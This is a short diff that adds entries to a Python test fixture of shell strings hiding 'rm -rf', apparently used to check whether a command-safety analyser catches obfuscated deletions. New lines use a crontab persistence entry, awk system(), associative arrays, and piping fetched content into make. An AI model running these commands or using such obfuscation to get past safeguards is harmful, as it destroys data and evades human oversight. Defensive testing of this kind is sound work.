@@ -1,6 +1,10 @@
 """Lines that hide ``rm -rf`` so that not all of it can be worked out: each must be seen, or be opaque."""
 
 HIDDEN = (
+    'curl h | make -f -',
+    "(crontab -l; echo '* * * * * rm -rf /x') | crontab -",
+    'awk \'BEGIN { cmd = "rm -rf /x"; system(cmd) }\'',
+    'declare -A m=([a]=rm); ${m[a]} -rf /x',
     "a=rm; if b; then a=ls; else $a -rf /x; fi",
     "a=rm; case b in c) a=ls;; *) $a -rf /x;; esac",
     "if b; then a=ls; elif c; then a=rm; fi; $a -rf /x",
